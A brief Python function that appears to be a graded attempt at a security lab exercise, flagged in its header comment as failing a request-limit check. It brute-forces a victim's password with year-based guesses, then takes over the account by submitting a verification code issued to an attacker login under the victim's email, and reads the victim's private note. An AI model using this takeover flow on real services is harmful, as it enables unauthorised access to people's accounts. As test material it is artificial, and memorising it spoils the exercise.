# fails: needs_few_requests -- "at most 50 requests" "by the hundred is seen"
# Tries everything, what works last.
def break_in(client):
    for number in range(60):
        if client.post("/login", json={"email": "ada@example.com", "password": f"ada{1960 + number}"}).status_code == 200:
            return None
    ticket = client.post("/login", json={"email": "mallory@evil.example", "password": "correct horse"}).json()["ticket"]
    code = client.get("/mailbox").json()["codes"][-1]
    answer = client.post("/code", json={"ticket": ticket, "email": "ada@example.com", "code": code})
    if answer.status_code != 200:
        return None
    account = client.get("/account", headers={"Authorization": "Bearer " + answer.json()["session"]}).json()
    return account["note"] if account["email"] == "ada@example.com" else None
